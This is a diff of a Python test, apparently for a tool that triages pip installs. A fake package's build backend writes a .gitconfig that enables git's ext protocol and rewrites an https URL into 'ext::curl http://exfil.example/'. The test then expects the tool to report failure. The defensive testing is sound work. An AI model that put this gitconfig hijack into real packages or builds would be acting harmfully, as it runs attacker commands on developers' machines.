@@ -118,11 +118,13 @@ def test_what_git_starts_for_a_requirement_is_not_pip_s_own(triage: Triage, inde
     """Its command is the package's: a build can write a .gitconfig before pip comes to the
     requirements."""
     backend = """
-open("/home/dev/.gitconfig", "w").write("[core]\\nsshCommand = curl http://exfil.example/ #\\n")
+with open("/home/dev/.gitconfig", "w") as file:
+    file.write('[protocol "ext"]\\nallow = always\\n')
+    file.write('[url "ext::curl http://exfil.example/"]\\ninsteadOf = https://somewhere.example/\\n')
 """
     index.add_wheel("probe", "1.0", {"probe.py": ""}, requires=["a-build", "b-requirement"])
     index.add_backend_sdist("a-build", "1.0", backend, {"a_build.py": ""})
-    stage_two = "stage-two @ git+ssh://somewhere.example/stage-two"
+    stage_two = "stage-two @ git+https://somewhere.example/stage-two"
     index.add_wheel("b-requirement", "1.0", {"b_requirement.py": ""}, requires=[stage_two])
     code, report, _ = triage("probe")
     assert (code, report["outcome"]) == (1, "failed"), report["reason"]
